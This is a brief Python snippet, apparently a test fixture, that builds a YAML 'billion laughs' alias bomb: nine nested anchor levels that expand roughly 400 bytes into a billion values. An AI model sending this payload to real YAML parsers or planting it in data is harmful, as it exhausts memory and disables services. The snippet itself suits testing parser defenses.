"""YAML whose aliases expand without end."""

# nine levels of ten: 10^9 values once expanded, in 400 bytes
BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9))
